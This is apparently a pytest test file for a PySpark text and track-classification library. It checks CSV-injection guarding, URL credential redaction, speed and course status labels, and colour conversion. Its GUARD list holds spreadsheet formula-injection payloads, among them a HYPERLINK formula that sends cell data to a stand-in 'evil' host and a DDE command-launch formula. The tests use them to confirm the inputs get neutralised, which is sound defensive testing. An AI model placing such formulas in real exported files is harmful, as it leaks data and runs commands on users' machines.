import pytest
from pyspark.sql import functions as F

from posevidence.functions import canon, classify, text


def one(spark, expression, value, kind="string"):
    return spark.createDataFrame([(value,)], f"v {kind}").select(expression(F.col("v"))).first()[0]


GUARD = [
    ('=HYPERLINK("https://evil/"&A1,"OK")', True), ("=cmd|' /C calc'!A0", True), ("+1+1", True), ("-1+1", True),
    ("@SUM(A1)", True), ("  =1+1", True), ("\t=1+1", True), (" =1", True), ("-1.0", False), ("-98.412345", False),
    ("+5", False), ("ALPHA-1", False), ("", False), ("\t", False), ("-1.", True), ("a=1", False),
]


def test_guard_cells(spark):
    df = spark.createDataFrame([(v,) for v, _ in GUARD], "v string").select("v", text.guard_cell(F.col("v")).alias("g"))
    for value, guarded in df.collect():
        assert guarded == ("'" + value if dict(GUARD)[value] else value)


def test_guard_leaves_other_types_alone(spark):
    df = spark.createDataFrame([("=1", -98.4, 42, None)], "a string, b double, c int, d string")
    assert tuple(text.guard_row(df).first()) == ("'=1", -98.4, 42, None)


def test_clause_safe(spark):
    assert one(spark, text.clause_safe, "a;b\nc\td\x00") == "abc\td"
    assert one(spark, text.clause_safe, "x" * 300) == "x" * 200
    assert one(spark, text.clause_safe, None) == ""


def test_clean_text(spark):
    assert one(spark, text.clean_text, "  a \n\n b;c\x7f d ") == "a bc d"
    assert len(one(spark, text.clean_text, "x " * 400)) == 300


@pytest.mark.parametrize("value, case, name", [
    (' A" -> "B ', "A -> B", "A-B"), ("x;y/z", "xy/z", "xyz"), ("Fäll_1.2", "Fäll_1.2", "Fäll_1.2"), ("", "", "export"), ("///", "///", "export"),
])
def test_case_names(spark, value, case, name):
    assert one(spark, text.case_name, value) == case
    assert one(spark, text.file_safe_case, value) == name


def test_redaction(spark):
    url = "rtsp://u:p@cam/x?next=http://a:b@two"
    assert one(spark, text.redact_first_credentials, url) == "rtsp://[CREDENTIALS-REDACTED]@cam/x?next=http://a:b@two"
    both = one(spark, text.redact_all_credentials, "<a>rtsp://u@x</a><b>http://c:d@y</b>")
    assert both.count("CREDENTIALS-REDACTED") == 2
    assert one(spark, lambda c: text.count_marks(c), both) == 2


def test_attribute_absent_and_empty_differ(spark):
    def read(v):
        return one(spark, lambda c: text.first_group(c, text.DETAIL_PATTERNS["callsign"]), v)

    assert read("<detail/>") is None and read(None) is None
    assert read('<contact callsign=""/>') == "" and read('<contact a="b" callsign="X" callsign2="Y"/>') == "X"


def test_readings(spark):
    def states(f, values):
        return [one(spark, f, v) for v in values]

    assert states(classify.speed_status, [None, "", "x", "-1.0", "0.0", "1.5"]) == [
        "not reported", "not reported", "not numeric", "unavailable", "stationary", "moving"]
    assert states(classify.course_status, ["9999999.0", "-1", "90", None]) == ["unavailable", "unavailable", "reported", "not reported"]
    assert one(spark, classify.speed_mph, "10") == pytest.approx(22.3694)


def test_colours(spark):
    assert one(spark, classify.argb_hex, -2737863, "long") == "FFD63939"
    assert one(spark, classify.argb_hex, -16711936, "long") == "FF00FF00"
    assert one(spark, classify.argb_hex, None, "long") == ""
    assert one(spark, classify.argb_to_abgr, -2737863, "long") == "ff3939d6"
    assert one(spark, classify.argb_to_abgr, None, "long") == "ff000000"


def test_categories(spark):
    kinds = {"a-f-G-U-C": "Personnel", "a-f-G-E-V-C": "Vehicles and equipment", "a-n-G-I": "Infrastructure",
             "u-d-f": "Map objects", "b-m-p": "Map objects", "a-f-A": "Other entities", "t-x": "Other", None: "Other"}
    for kind, expected in kinds.items():
        assert one(spark, classify.track_category, kind) == expected


def test_source_identity(spark):
    df = spark.createDataFrame([("77", "c/1/2"), ("", "c/1/2"), (None, None)], "a string, b string")
    got = [r[0] for r in df.select(classify.source_identity(F.col("a"), F.col("b"))).collect()]
    assert got == ["cluster 77", "catalog c/1/2", ""]


@pytest.mark.parametrize("value", [0.0, 1.0, -98.4, 39.95, 1e-5, 1.5e-7, 0.0005, 123456789.5, 1e15, 1e16, 1.25e20, -3e-9, 9999999.0, 0.1, 1e22, 12345678.9])
def test_float_text_is_the_shortest_form(spark, value):
    assert one(spark, canon.float_text, value, "double") == repr(value)
